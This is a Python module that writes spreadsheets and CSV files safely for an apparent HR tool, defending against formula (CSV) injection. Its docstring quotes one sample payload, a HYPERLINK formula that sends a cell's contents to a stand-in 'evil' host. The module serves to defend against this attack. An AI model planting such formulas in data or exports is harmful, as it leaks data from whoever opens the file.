"""The one writer for every spreadsheet and CSV Penata produces.

Names, titles, units, education fields and committee reasons come from the user's
files. Excel, LibreOffice and Google Sheets run a cell that starts with ``=`` (and,
in CSV, ``+``, ``-``, ``@``, tab or carriage return) as a formula, so a name like
``=HYPERLINK("http://evil/?"&A1,"klik")`` in ``employees.csv`` would become a live
formula in the SK annex the committee opens and signs (OWASP "CSV Injection",
CWE-1236). Every XLSX and CSV file a person may open goes through this module:

- :func:`xlsx_bytes` writes text cells with the explicit string type (never a
  formula, whatever the text starts with) and the text number format ``@`` (so an
  edit in Excel keeps them text); numbers stay numeric cells. Characters XLSX
  cannot hold (control characters other than tab, LF, CR) become U+FFFD instead of
  failing the whole file, and a CR becomes LF (see :func:`xlsx_text`).
- :func:`csv_text` prefixes a text field that starts with ``=``, ``+``, ``-``,
  ``@``, tab or carriage return with one ``'`` (OWASP's recommendation; the
  spreadsheet then shows it as text). Numbers are written as numbers, unprefixed.

Identifiers (NIPs, position ids) must be passed as ``str``: they then stay text
with their leading zeros (never a float like ``1.98506E+17``).

Adding a producer (import report, training or succession tables, workspace
downloads, audit exports): build the rows and call :func:`csv_text` or
:func:`xlsx_bytes`; write the result with the caller's atomic writer. Never use
``csv.writer``, ``DataFrame.to_csv``/``to_excel`` or ``openpyxl.Workbook`` directly
for a file a person downloads or opens. (Files Penata writes only to read back
itself, such as the API's stored input tables, keep the exact text and are not
outputs; they must not be offered for download as they are.)
"""

from __future__ import annotations

import csv
import io
import numbers
import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, field
from typing import Any

#: First characters a spreadsheet may read as the start of a formula or command.
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")

# Characters an XLSX (XML 1.0) cell cannot contain; openpyxl raises on them.
_XLSX_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
_MAX_COLUMN_WIDTH = 60


def is_number(value: Any) -> bool:
    """True for an int or float (numpy included), False for bool and text."""
    return isinstance(value, numbers.Real) and not isinstance(value, bool)


def csv_field(value: Any) -> Any:
    """One CSV field: numbers unchanged, ``None`` empty, text guarded.

    Text starting with one of :data:`FORMULA_PREFIXES` gets a leading ``'``, so
    ``=1+1`` is written as ``'=1+1`` and ``-5`` (text) as ``'-5``.
    """
    if value is None:
        return ""
    if is_number(value):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_PREFIXES) else text


def csv_text(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> str:
    """A CSV document (comma, minimal quoting, ``\\n`` line ends) with every field
    passed through :func:`csv_field`."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    for row in [header, *rows]:
        fields = [csv_field(v) for v in row]
        if any(isinstance(f, str) and "\r" in f for f in fields):
            # With "\n" line ends Python's csv leaves a field holding a CR unquoted and
            # every reader then splits the row there: write this row with CRLF line
            # ends, which quotes that field, and keep the document's "\n".
            line = io.StringIO()
            csv.writer(line, lineterminator="\r\n").writerow(fields)
            buffer.write(line.getvalue()[:-2] + "\n")
        else:
            writer.writerow(fields)
    return buffer.getvalue()


def xlsx_text(value: Any) -> str:
    """The text an XLSX cell will hold: ``value`` as ``str``, line ends as ``\\n`` (XML
    reads a bare CR back as LF anyway) and the characters XLSX cannot store replaced
    by U+FFFD."""
    text = str(value).replace("\r\n", "\n").replace("\r", "\n")
    return _XLSX_ILLEGAL.sub("\ufffd", text)


@dataclass(frozen=True)
class Sheet:
    """One worksheet: a bold, frozen header row, the data rows, then ``footer`` rows.

    Cells are ``str`` (text), ``int``/``float`` (numbers) or ``None`` (empty).
    """

    title: str
    header: Sequence[str]
    rows: Sequence[Sequence[Any]]
    footer: Sequence[Sequence[Any]] = field(default_factory=tuple)


def _put(ws: Any, row: int, column: int, value: Any, font: Any = None) -> None:
    if value is None or value == "":
        return
    if is_number(value):
        cell = ws.cell(row=row, column=column, value=value)
    else:
        cell = ws.cell(row=row, column=column)
        cell.value = xlsx_text(value)
        # openpyxl turns any text starting with "=" into a formula on assignment:
        # the explicit string type makes it an inline string, shown as typed.
        cell.data_type = "s"
        cell.number_format = "@"
    if font is not None:
        cell.font = font


def _width(value: Any) -> int:
    return len(str(value)) if value not in (None, "") else 0


def xlsx_bytes(sheets: Sequence[Sheet]) -> bytes:
    """An XLSX workbook with one worksheet per :class:`Sheet`, every text cell a
    string (never a formula), every number a number; columns sized to their text
    (at most 60 characters wide)."""
    from openpyxl import Workbook
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    book = Workbook()
    book.remove(book.active)
    bold = Font(bold=True)
    for sheet in sheets:
        ws = book.create_sheet(xlsx_text(sheet.title))
        for c, head in enumerate(sheet.header, start=1):
            _put(ws, 1, c, head, bold)
        for r, row in enumerate([*sheet.rows, *sheet.footer], start=2):
            for c, value in enumerate(row, start=1):
                _put(ws, r, c, value)
        for c, head in enumerate(sheet.header, start=1):
            width = max([_width(head)] + [_width(row[c - 1]) for row in sheet.rows
                                          if len(row) >= c])
            ws.column_dimensions[get_column_letter(c)].width = min(_MAX_COLUMN_WIDTH, width + 2)
        ws.freeze_panes = "A2"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()
